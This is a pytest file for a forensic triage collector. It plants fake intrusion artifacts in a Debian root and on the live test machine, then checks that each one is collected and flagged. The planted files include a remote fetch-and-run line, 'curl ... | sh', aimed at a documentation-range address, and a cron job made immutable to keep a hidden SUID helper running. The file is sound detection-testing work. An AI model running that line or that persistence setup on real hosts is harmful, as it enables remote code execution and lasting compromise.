"""UAC's ir_triage categories, judged (issue 16), on a real Debian 13 root (debootstrapped, cached) seen through an
overlay so that plants never touch the cache:

- a fresh tree whose files match their packages gives no finding (the false-positive test);
- a modified packaged binary, an unowned SUID file, a capability-bearing binary, an immutable file, a
  non-executable script and an archive in /tmp, a transient systemd timer, an at job, a passphrase-less private
  key, a pinned eBPF object (bpffs mounted in the capture's own mount namespace), a core dump, an nginx access log
  with an attacker's address, a psql history: each is collected, and each suspicious one is one finding whose
  evidence is in the bundle.
"""
from __future__ import annotations

import hashlib
import json
import os
import shlex
import struct
import subprocess
import tempfile
from pathlib import Path

import pytest

from tests.test_hostile_host import capture, in_private_mounts, out_dir, remove_tree, team_key
from tests.world.roots import TRIXIE, RootUnavailable, debian_roots

assert debian_roots and out_dir and team_key  # fixtures, used by name below
LIVE_KERNEL = {"kernel-tainted", "modules-tainted"}  # facts of the running kernel, not of the tree
VOLATILE = ("--skip", "processes", "--skip", "network", "--skip", "containers")  # the live host's, not the tree's
ATTACKER = "203.0.113.66"
PIN = r"""
import ctypes, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
attr = ctypes.create_string_buffer(struct.pack("<IIIII", 2, 4, 4, 1, 0) + bytes(108))  # BPF_MAP_TYPE_ARRAY
fd = libc.syscall(321, 0, attr, 128)  # bpf(BPF_MAP_CREATE)
path = ctypes.create_string_buffer(sys.argv[1].encode())
attr = ctypes.create_string_buffer(struct.pack("<QII", ctypes.addressof(path), fd, 0) + bytes(112))
sys.exit(0 if fd >= 0 and libc.syscall(321, 6, attr, 128) == 0 else 1)  # bpf(BPF_OBJ_PIN)
"""


@pytest.fixture
def debian(debian_roots, tmp_path):
    """The cached trixie root under an overlay: writes land in an upper directory, removed after."""
    try:
        lower = debian_roots.get(TRIXIE).path
    except RootUnavailable as error:
        pytest.fail(str(error), pytrace=False)
    upper, work, merged = tmp_path / "upper", tmp_path / "work", tmp_path / "merged"
    for path in (upper, work, merged):
        path.mkdir()
    subprocess.run(["mount", "-t", "overlay", "overlay", "-o", "lowerdir=%s,upperdir=%s,workdir=%s" % (
        lower, upper, work), str(merged)], check=True, timeout=30)
    try:
        yield merged
    finally:
        subprocess.run(["chattr", "-R", "-i", str(merged / "etc/cron.d")], capture_output=True, timeout=60)
        subprocess.run(["umount", "-l", str(merged)], check=True, timeout=30)
        remove_tree(upper)
        remove_tree(work)


def plant(root: Path, logical: str, data: bytes, mode: int = 0o644, uid: int = 0) -> Path:
    path = root / logical.lstrip("/")
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    os.chown(str(path), uid, uid)
    os.chmod(str(path), mode)
    return path


def by_id(result) -> dict:
    found = {}
    for finding in result.result["findings"]:
        found.setdefault(finding["id"], []).append(finding)
    return found


def test_a_fresh_debian_tree_gives_no_finding(debian, out_dir, team_key):
    result = capture(debian, out_dir, team_key, "--profile", "triage", *VOLATILE, codes=(0,))
    judged = [f for f in result.result["findings"]
              if f["id"] not in LIVE_KERNEL and not f["id"].startswith("collector-environment")]
    assert judged == [], judged
    verify = json.loads(result.data("packages/verify.json"))
    assert verify["modified"] == [] and verify["missing"] == [], verify
    assert verify["checked"] > 500, verify["checked"]  # executables, libraries, units and /etc were compared


def test_each_plant_is_collected_and_each_suspicious_one_found_once(debian, out_dir, team_key):
    # a packaged binary replaced (size and mode kept plausible)
    original = (debian / "usr/bin/whoami").read_bytes()
    plant(debian, "/usr/bin/whoami", original[:-16] + b"\x90" * 16, 0o755)
    plant(debian, "/usr/local/sbin/.helper", b"\x7fELF-suid", 0o4755)  # SUID, no package owns it
    plant(debian, "/usr/sbin/cap-helper", b"\x7fELF-cap", 0o755)  # file capabilities, no package owns it
    os.setxattr(str(debian / "usr/sbin/cap-helper"), "security.capability",
                struct.pack("<IIIII", 0x02000001, 1 << 13, 0, 0, 0))  # cap_net_raw+ep
    plant(debian, "/etc/cron.d/stay", b"* * * * * root /usr/local/sbin/.helper\n")
    subprocess.run(["chattr", "+i", str(debian / "etc/cron.d/stay")], check=True, timeout=30)
    plant(debian, "/tmp/.x/drop.sh", b"curl -s http://203.0.113.66/x | sh\n", 0o644)  # a script without x bit
    plant(debian, "/tmp/loot.tar.gz", b"\x1f\x8b\x08\x00" + os.urandom(2000))
    plant(debian, "/run/systemd/transient/run-u42.timer", b"[Timer]\nOnCalendar=*:0/5\n")
    plant(debian, "/run/systemd/transient/run-u42.service", b"[Service]\nExecStart=/tmp/.x/drop.sh\n")
    plant(debian, "/var/spool/cron/atjobs/a0000101b2c3d4", b"#!/bin/sh\n/tmp/.x/drop.sh\n", 0o700)
    plant(debian, "/etc/passwd", (debian / "etc/passwd").read_bytes() +
          b"alice:x:1000:1000:Alice:/home/alice:/bin/bash\n")
    (debian / "home/alice/.ssh").mkdir(parents=True)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "alice@host", "-f",
                    str(debian / "home/alice/.ssh/id_ed25519")], check=True, timeout=60)
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "a passphrase", "-C", "alice@safe", "-f",
                    str(debian / "home/alice/.ssh/id_safe")], check=True, timeout=60)
    plant(debian, "/home/alice/.psql_history", b"SELECT * FROM users;\n\\copy users TO '/tmp/u.csv'\n", 0o600)
    plant(debian, "/var/crash/_usr_bin_bookgen.0.crash", b"ProblemType: Crash\n", 0o640)
    plant(debian, "/var/log/nginx/access.log", ('%s - - [18/Nov/2026:11:06:40 +0000] "GET /admin/../.env HTTP/1.1" '
                                                '200 512 "-" "curl/8.0"\n' % ATTACKER).encode())
    setup = "mount -t bpf bpf /sys/fs/bpf\n/usr/bin/python3 -I -S -c %s /sys/fs/bpf/bk_evil_map" % shlex.quote(PIN)
    result = capture(debian, out_dir, team_key, "--profile", "triage", *VOLATILE,
                     argv_prefix=in_private_mounts(setup), codes=(0,))
    names = set(result.names)
    for logical in ("/usr/bin/whoami", "/usr/local/sbin/.helper", "/etc/cron.d/stay", "/tmp/.x/drop.sh",
                    "/tmp/loot.tar.gz", "/run/systemd/transient/run-u42.timer", "/var/spool/cron/atjobs/a0000101b2c3d4",
                    "/home/alice/.psql_history", "/var/crash/_usr_bin_bookgen.0.crash", "/var/log/nginx/access.log"):
        assert "fs/$rootfs$" + logical in names, logical
    assert ATTACKER.encode() in result.data("fs/$rootfs$/var/log/nginx/access.log")
    assert "fs/$rootfs$/home/alice/.ssh/id_ed25519" not in names  # a private key is judged, never copied
    found = by_id(result)

    def one(finding_id: str, path: str) -> dict:
        matching = [f for f in found.get(finding_id, []) if path in (f["details"].get("paths") or
                                                                     [f["details"].get("path")])]
        assert len(matching) == 1, (finding_id, path, found.get(finding_id))
        for evidence in matching[0]["evidence"]:
            assert evidence.split("#")[0] in names, (finding_id, evidence)
        return matching[0]

    replaced = one("package-file-modified", "/usr/bin/whoami")
    assert replaced["severity"] == "high" and replaced["details"]["package"] == "coreutils"
    assert one("walk-suid-sgid", "/usr/local/sbin/.helper")["severity"] == "high"
    assert one("capabilities-unpackaged", "/usr/sbin/cap-helper")["severity"] == "high"
    assert one("walk-immutable", "/etc/cron.d/stay")
    assert one("transient-units", "/run/systemd/transient/run-u42.timer")
    assert one("at-jobs", "/var/spool/cron/atjobs/a0000101b2c3d4")
    keys = one("ssh-key-without-passphrase", "/home/alice/.ssh/id_ed25519")
    assert "/home/alice/.ssh/id_safe" not in keys["details"]["paths"]
    assert one("core-dumps", "/var/crash/_usr_bin_bookgen.0.crash")
    assert one("bpf-pinned", "/sys/fs/bpf/bk_evil_map")
    assert one("walk-unpackaged-system-executables", "/usr/sbin/cap-helper")
    assert one("recent-cron", "/etc/cron.d/stay")  # the immutable file is a new cron job too
    # nothing else about the tree: the rest of Debian matches its packages
    judged = {f["id"] for f in result.result["findings"]
              if f["id"] not in LIVE_KERNEL and not f["id"].startswith("collector-environment")}
    assert judged == {"package-file-modified", "walk-suid-sgid", "capabilities-unpackaged", "walk-immutable",
                      "transient-units", "at-jobs", "ssh-key-without-passphrase", "core-dumps", "bpf-pinned",
                      "walk-unpackaged-system-executables", "recent-cron"}, judged
    assert len(found["package-file-modified"]) == 1


SPEC = """Name: bkdemo
Version: 1.0
Release: 1
Summary: a package for the test
License: MIT
BuildArch: noarch
%description
a package for the test
%install
mkdir -p %{buildroot}/usr/bin %{buildroot}/etc/bkdemo %{buildroot}/usr/lib/bkdemo
printf '#!/bin/sh\\necho demo\\n' > %{buildroot}/usr/bin/bkdemo
chmod 755 %{buildroot}/usr/bin/bkdemo
printf 'x=1\\n' > %{buildroot}/etc/bkdemo/demo.conf
printf 'library\\n' > %{buildroot}/usr/lib/bkdemo/libdemo.so.1
%files
/usr/bin/bkdemo
/usr/lib/bkdemo/libdemo.so.1
%config /etc/bkdemo/demo.conf
"""


def test_an_rpm_database_is_judged_as_rpm_va_judges_it(tmp_path, out_dir, team_key):
    """A real rpm database (rpmbuild, then rpm -i into a tree): read as files, no rpm run by the kit. Pristine,
    nothing is found; after a binary and a conffile change, the kit names the files `rpm -Va` names."""
    top, tree = tmp_path / "rpmbuild", tmp_path / "tree"
    (top / "SPECS").mkdir(parents=True)
    tree.mkdir()
    (top / "SPECS" / "bkdemo.spec").write_text(SPEC)
    subprocess.run(["rpmbuild", "--define", "_topdir %s" % top, "-bb", str(top / "SPECS" / "bkdemo.spec")],
                   check=True, capture_output=True, timeout=300)
    package = next((top / "RPMS" / "noarch").glob("bkdemo-*.rpm"))
    rpm = ["rpm", "--root", str(tree), "--dbpath", "/var/lib/rpm"]
    subprocess.run(rpm + ["--initdb"], check=True, capture_output=True, timeout=120)
    subprocess.run(rpm + ["-i", "--nodeps", str(package)], check=True, capture_output=True, timeout=120)
    (out_dir / "pristine").mkdir()
    (out_dir / "judged").mkdir()
    pristine = capture(tree, out_dir / "pristine", team_key, "--only", "packages", codes=(0,))
    assert not [f for f in pristine.result["findings"] if f["id"].startswith("package-")]
    installed = json.loads(pristine.data("packages/rpm.json"))["installed"]
    assert [(p["package"], p["version"], p["release"]) for p in installed] == [("bkdemo", "1.0", "1")]
    assert json.loads(pristine.data("packages/verify.json"))["checked"] == 3
    (tree / "usr/bin/bkdemo").write_bytes(b"#!/bin/sh\necho replaced\n")
    (tree / "etc/bkdemo/demo.conf").write_bytes(b"x=2\n")
    said = subprocess.run(rpm + ["-Va", "--nodeps"], capture_output=True, text=True, timeout=120).stdout
    rpm_changed = {line.split()[-1] for line in said.splitlines() if line[2:3] == "5"}
    assert rpm_changed == {"/usr/bin/bkdemo", "/etc/bkdemo/demo.conf"}, said
    judged = capture(tree, out_dir / "judged", team_key, "--only", "packages", codes=(0,))
    modified = json.loads(judged.data("packages/verify.json"))["modified"]
    assert {m["path"] for m in modified} == rpm_changed
    assert all(m["algorithm"] == "sha256" for m in modified)
    found = by_id(judged)
    assert [f["details"]["path"] for f in found["package-file-modified"]] == ["/usr/bin/bkdemo"]
    assert found["package-conffiles-changed"][0]["details"]["paths"] == ["/etc/bkdemo/demo.conf"]
    assert not [p for p in os.listdir("/dev/shm") if p.startswith("bookgen-kit-rpmdb-")]  # the copy is gone


def test_plants_on_the_live_machine_are_collected_and_judged(out_dir, team_key):
    """The same categories on the live test machine (no --root): staging areas in full, a SUID file in /var/tmp,
    an executable in /dev/shm, a transient unit name; whatever else this machine holds is judged too."""
    work = Path(tempfile.mkdtemp(prefix="bk-live-plants-", dir="/tmp"))
    shelf = Path(tempfile.mkdtemp(prefix="bk-live-plants-", dir="/var/tmp"))
    shm = Path(tempfile.mkdtemp(prefix="bk-live-plants-", dir="/dev/shm"))
    try:
        plant(work, "/drop.sh", b"curl -s http://203.0.113.66/x | sh\n", 0o644)
        plant(work, "/loot.tar.gz", b"\x1f\x8b\x08\x00" + os.urandom(4000))
        plant(shelf, "/.suid-shell", b"\x7fELF-suid", 0o4755)
        plant(shm, "/.runner", b"\x7fELF-runner", 0o755)
        result = capture("/", out_dir, team_key, "--profile", "triage", "--skip", "containers",
                         env={"DOCKER_HOST": "unix:///nonexistent"}, deadline=900, timeout=1200)
        names = set(result.names)
        for path in (work / "drop.sh", work / "loot.tar.gz", shelf / ".suid-shell", shm / ".runner"):
            assert "fs/$rootfs$%s" % path in names, path
        suid = by_id(result)["suid-in-tmp"]
        assert len(suid) == 1 and str(shelf / ".suid-shell") in suid[0]["details"]["paths"]
        lists = result.data("timeline/lists/suid_sgid.txt").decode()
        assert str(shelf / ".suid-shell") in lists
        hashes = result.data("timeline/lists/executables.sha256").decode()
        assert "%s  %s" % (hashlib.sha256(b"\x7fELF-runner").hexdigest(), shm / ".runner") in hashes
        staged = json.loads(result.data("volatile/staging.json"))
        assert any(e["path"] == str(work / "drop.sh") and e["copied"] for e in staged["entries"])
    finally:
        for path in (work, shelf, shm):
            remove_tree(path)
